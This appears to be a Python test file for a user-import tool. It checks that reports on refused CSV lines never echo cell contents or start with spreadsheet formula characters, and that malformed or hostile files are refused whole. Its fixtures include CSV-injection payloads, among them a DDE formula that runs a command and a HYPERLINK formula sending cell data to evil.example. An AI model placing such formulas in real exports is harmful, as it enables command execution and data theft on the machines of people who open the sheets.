"""Files for an import that were made to do harm, and what a spreadsheet would run as a formula (CSV injection).

The one sheet that is written is the report of an import's refused lines: it never says what a cell holds.
"""

import ast
from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest

from bot.cli.importing.reading import Rows
from bot.cli.importing.wording import reason
from core.errors import CoreError
from core.exits import Failure
from core.import_lines import COLUMNS, NOT_TAKEN, ImportLine

_ROOT: Final = Path(__file__).parents[2]
_FORMULAS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=cmd|'/c calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"x")', '"=1+1', "';=1+1", "\ufeff=1+1", "%0A-1+1|",
)  # fmt: skip
_BEGIN: Final = frozenset("=+-@\t\r\n＝＋－＠\"'|;")
_GOOD: Final = {
    "source_id": "1",
    "role": "patient",
    "phone": "13812345678",
    "name": "王小明",
    "password_hash": "$2y$04$" + "." * 53,
}
_HEAD: Final = ",".join(_GOOD).encode()
_LINE: Final = ",".join(_GOOD.values()).encode()


def _told(texts: dict[str, str]) -> str:
    """What an operator reads of such a line; nothing of one that is taken."""
    try:
        ImportLine.parse(texts)
    except CoreError as error:
        return reason(error)
    return ""


@pytest.mark.parametrize("formula", _FORMULAS, ids=repr)
def test_no_word_about_a_refused_line_is_a_formula(formula: str) -> None:
    """In each column that is known, and as the name of one that is not."""
    told = [_told({**_GOOD, column: formula}) for column in COLUMNS]
    told += [_told({**_GOOD, formula: "1"}), _told({**_GOOD, formula: formula})]
    assert len([words for words in told if words]) > len(COLUMNS) // 2
    for words in filter(None, told):
        assert words[0] not in _BEGIN
        assert formula.strip() not in words


def test_nothing_else_is_written_as_a_sheet() -> None:
    """An export is JSON. A new sheet has to think of formulas first, then it is named here."""
    using = {
        file.relative_to(_ROOT).as_posix()
        for room in ("api", "bot", "core", "ops", "storage")
        for file in (_ROOT / room).rglob("*.py")
        if {"csv", "openpyxl", "xlsxwriter", "pandas"} & set(_imported(ast.parse(file.read_text(encoding="utf-8"))))
    }
    assert using == {"bot/cli/importing/reading.py", "bot/cli/importing/running.py"}


def _imported(tree: ast.AST) -> Iterator[str]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            yield from (name.name.partition(".")[0] for name in node.names)
        elif isinstance(node, ast.ImportFrom):
            yield (node.module or "").partition(".")[0]


_TAKEN: Final = {
    "a byte order mark": b"\xef\xbb\xbf" + _HEAD + b"\n" + _LINE,
    "quotes around all": b'"' + _HEAD.replace(b",", b'","') + b'"\r\n"' + _LINE.replace(b",", b'","') + b'"',
    "line ends of an old Mac": _HEAD + b"\r" + _LINE + b"\r",
    "empty lines between": _HEAD + b"\n\n\r\n\n" + _LINE + b"\n\n",
}
_REFUSED: Final = {
    "NUL in a phone": _LINE.replace(b"13812", b"138\x0012"),
    "NUL in a name": _LINE.replace(b"138", b"138").replace("王小明".encode(), "王\0明".encode()),
    "a byte order mark in the middle": _LINE.replace(b",138", b",\xef\xbb\xbf=138"),
    "line separators of Unicode in a name": _LINE.replace("王小明".encode(), "王\u2028\x85明".encode()),
    "bidi in a name": _LINE.replace("王小明".encode(), "王\u202e明".encode()),
    "a quote in the middle": _LINE.replace("王小明".encode(), '王"小"明'.encode()),
    "a line within quotes": _LINE.replace("王小明".encode(), '"王\n=小明"'.encode()),
    "a cell too few": _LINE.rpartition(b",")[0],
    "a cell too many": _LINE + b",=1+1",
    "semicolons": _LINE.replace(b",", b";"),
    "commas alone": b"," * 120_000,
    "an admin": _LINE.replace(b"patient", b"admin"),
}
_UNUSABLE: Final = {
    "UTF-16": (_HEAD + b"\n" + _LINE).decode().encode("utf-16"),
    "UTF-32": (_HEAD + b"\n" + _LINE).decode().encode("utf-32"),
    "GBK": (_HEAD + b"\n" + _LINE).decode().encode("gbk"),
    "an overlong slash": _HEAD + b"\n" + _LINE + b"\xc0\xaf",
    "half a surrogate": _HEAD + b"\n" + _LINE + b"\xed\xa0\x80",
    "two byte order marks": b"\xef\xbb\xbf\xef\xbb\xbf" + _HEAD + b"\n" + _LINE,
    "a line without end": _HEAD + b"\n" + _LINE + b"x" * 300_000,
    "a header without end": b"x," * 200_000,
    "a quote that stays open": _HEAD + b'\n1,patient,"138' + b"\n13800000000" * 20_000,
    "text behind a closed quote": _HEAD + b'\n"1"=1+1,patient,13812345678,x,y',
    "a formula for a header": b"=1+1," + _HEAD + b"\n1," + _LINE,
    "a zip": b"PK\x03\x04\x14\x00" + bytes(range(256)),
    "nothing": b"",
    "NULs": b"\0" * 1000,
    "a header twice": _HEAD + b"," + _HEAD + b"\n" + _LINE + b"," + _LINE,
}


def _outcomes(folder: Path, content: bytes) -> list[str]:
    """What is told of each row of such a file. Raises Failure for one that cannot be used."""
    file = folder / "old.csv"
    file.write_bytes(content)
    rows = Rows(file, COLUMNS.keys() | NOT_TAKEN, (frozenset({"source_id"}), frozenset({"role", "type"})))
    assert rows.count() == len(list(rows))
    told = []
    for row in rows:
        try:
            told.append(_told(dict(row.texts())))
        except CoreError as error:
            told.append(reason(error))
    return told


@pytest.mark.parametrize("what", _TAKEN)
def test_odd_writing_is_read_as_meant(tmp_path: Path, what: str) -> None:
    assert _outcomes(tmp_path, _TAKEN[what]) == [""]


@pytest.mark.parametrize("what", _REFUSED)
def test_a_hostile_line_costs_itself_alone(tmp_path: Path, what: str) -> None:
    first, hostile, last = _outcomes(tmp_path, b"\n".join((_HEAD, _LINE, _REFUSED[what], _LINE)))
    assert (first, last) == ("", "")
    assert hostile
    assert hostile[0] not in _BEGIN


@pytest.mark.parametrize("what", _UNUSABLE)
def test_a_hostile_file_is_refused_as_a_whole(tmp_path: Path, what: str) -> None:
    """Before any row is used, in one sentence that shows no cell."""
    with pytest.raises(Failure) as failed:
        _outcomes(tmp_path, _UNUSABLE[what])
    said = str(failed.value)
    assert "\n" not in said
    for cell in ("13812345678", "王小明", "1+1", "$2y$"):
        assert cell not in said
